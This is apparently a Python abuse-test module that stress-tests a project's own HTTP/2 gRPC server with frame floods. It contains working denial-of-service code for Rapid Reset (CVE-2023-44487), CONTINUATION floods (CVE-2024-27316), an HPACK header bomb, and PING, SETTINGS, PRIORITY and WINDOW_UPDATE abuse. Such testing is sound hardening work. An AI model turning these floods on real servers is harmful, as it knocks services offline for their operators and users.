"""Floods of frames: each is allowed once or twice, and none of them is work."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.abuse.raw import serialized
from tests.abuse.siege import Siege, attack

if TYPE_CHECKING:
    from tests.abuse.raw import RawConnection

BURST = 1_000
CANCEL = 8
TASK = "TaskService/GetTask"
LONELY = "TaskService/StreamTasks"


async def flood(siege: Siege, connection: RawConnection, burst: bytes, name: str, count: int = BURST) -> None:
    """Send the same frames as fast as the server takes them."""
    while siege.is_on:
        await connection.send_bytes(burst)
        siege.counts[name] += count


@attack
async def rapid_reset(siege: Siege) -> None:
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""

    async def run() -> None:
        async with siege.connection() as connection:
            while siege.is_on:
                frames = []
                for _ in range(BURST // 10):
                    headers = connection.call(TASK)
                    frames += [headers, RstStreamFrame(headers.stream_id, error_code=CANCEL)]
                await connection.send(*frames)
                siege.counts["resets"] += BURST // 10

    await siege.again(run, lanes=2)


@attack
async def pings(siege: Siege) -> None:
    """PING, PING, PING."""
    burst = serialized([PingFrame(opaque_data=b"abuseabu")] * BURST)

    async def run() -> None:
        async with siege.connection() as connection:
            await flood(siege, connection, burst, "pings")

    await siege.again(run, lanes=2)


@attack
async def pings_unread(siege: Siege) -> None:
    """PING without reading the answers: what is not read is the server's memory."""
    burst = serialized([PingFrame(opaque_data=b"abuseabu")] * BURST)

    async def run() -> None:
        async with siege.connection(reads=False, receive_bytes=4_096) as connection:
            await flood(siege, connection, burst, "pings")

    await siege.again(run, lanes=2)


@attack
async def settings(siege: Siege) -> None:
    """SETTINGS that have to be applied and acknowledged each."""
    burst = serialized(
        SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1_000 + number}) for number in range(BURST)
    )

    async def run() -> None:
        async with siege.connection() as connection:
            for _ in range(50):
                await connection.begin(LONELY)
            await flood(siege, connection, burst, "settings")

    await siege.again(run, lanes=2)


@attack
async def settings_unread(siege: Siege) -> None:
    """SETTINGS without reading the acknowledgements."""
    burst = serialized([SettingsFrame()] * BURST)

    async def run() -> None:
        async with siege.connection(reads=False, receive_bytes=4_096) as connection:
            await flood(siege, connection, burst, "settings")

    await siege.again(run, lanes=2)


@attack
async def empty_frames(siege: Siege) -> None:
    """DATA frames with nothing in them, which no window bounds."""

    async def run() -> None:
        async with siege.connection() as connection:
            stream_id = await connection.begin(LONELY)
            burst = serialized([DataFrame(stream_id)] * BURST)
            await flood(siege, connection, burst, "empty frames")

    await siege.again(run, lanes=2)


@attack
async def endless_headers(siege: Siege) -> None:
    """A header block that goes on in CONTINUATION frames and never ends (CVE-2024-27316)."""

    async def run() -> None:
        async with siege.connection() as connection:
            headers = connection.call(TASK)
            headers.flags.discard("END_HEADERS")
            await connection.send(headers)
            # Each a literal that is not indexed: nothing but new header fields.
            block = b"".join(b"\x00\x07x-abuse\x40" + b"y" * 64 for _ in range(100))
            burst = serialized([ContinuationFrame(headers.stream_id, block)] * 10)
            await flood(siege, connection, burst, "continuations", 10)

    await siege.again(run, lanes=2)


@attack
async def empty_continuations(siege: Siege) -> None:
    """The same, of frames with nothing in them: no limit on sizes sees them."""

    async def run() -> None:
        async with siege.connection() as connection:
            headers = connection.call(TASK)
            headers.flags.discard("END_HEADERS")
            await connection.send(headers)
            burst = serialized([ContinuationFrame(headers.stream_id)] * BURST)
            await flood(siege, connection, burst, "continuations")

    await siege.again(run, lanes=2)


@attack
async def huge_headers(siege: Siege) -> None:
    """Headers of 1 MiB, with each call."""

    async def run() -> None:
        async with siege.connection() as connection:
            while siege.is_on:
                call = connection.call(TASK)
                stream_id = call.stream_id
                # A literal that is not indexed, its length 2^20 as an integer of HPACK.
                block = call.data + b"\x00\x07x-abuse\x7f\x81\xff\x3f" + b"y" * (1 << 20)
                parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
                frames = [
                    HeadersFrame(stream_id, parts[0]),
                    *(ContinuationFrame(stream_id, part) for part in parts[1:]),
                ]
                frames[-1].flags.add("END_HEADERS")
                await connection.send(*frames)
                siege.counts["calls"] += 1

    await siege.again(run, lanes=2)


@attack
async def header_bomb(siege: Siege) -> None:
    """One large header in the table of HPACK, then thousands of single bytes that mean it again."""

    async def run() -> None:
        async with siege.connection() as connection:
            connection.encoder.header_table_size = 4_096
            first = connection.call(TASK, ("x-abuse", "y" * 3_900))
            await connection.send(first)
            while siege.is_on:
                # 62 is the newest entry of the table: two bytes of headers a call, then 16,000 times 3.9 KB.
                block = connection.call(TASK).data + b"\xbe" * 16_000
                headers = HeadersFrame(connection.next_stream_id(), block, flags=["END_HEADERS"])
                await connection.send(headers)
                siege.counts["calls"] += 1

    await siege.again(run, lanes=2)


@attack
async def priorities(siege: Siege) -> None:
    """PRIORITY frames that move streams which do not exist around."""
    burst = serialized(
        PriorityFrame(2 * number + 1, depends_on=2 * number + 3, stream_weight=number % 256)
        for number in range(BURST)
    )

    async def run() -> None:
        async with siege.connection() as connection:
            await flood(siege, connection, burst, "priorities")

    await siege.again(run, lanes=2)


@attack
async def window_overflow(siege: Siege) -> None:
    """WINDOW_UPDATE beyond what a window can be, of streams and of the connection."""

    async def run() -> None:
        async with siege.connection() as connection:
            stream_id = await connection.begin(LONELY)
            whole = (1 << 31) - 1
            burst = serialized(
                [WindowUpdateFrame(stream_id, window_increment=whole), WindowUpdateFrame(0, whole)] * 10
            )
            await flood(siege, connection, burst, "updates", 20)

    await siege.again(run, lanes=2)


@attack
async def window_dribble(siege: Siege) -> None:
    """WINDOW_UPDATE by one byte, again and again."""

    async def run() -> None:
        async with siege.connection() as connection:
            stream_id = await connection.begin(LONELY)
            burst = serialized([WindowUpdateFrame(stream_id, window_increment=1)] * BURST)
            await flood(siege, connection, burst, "updates")

    await siege.again(run, lanes=2)
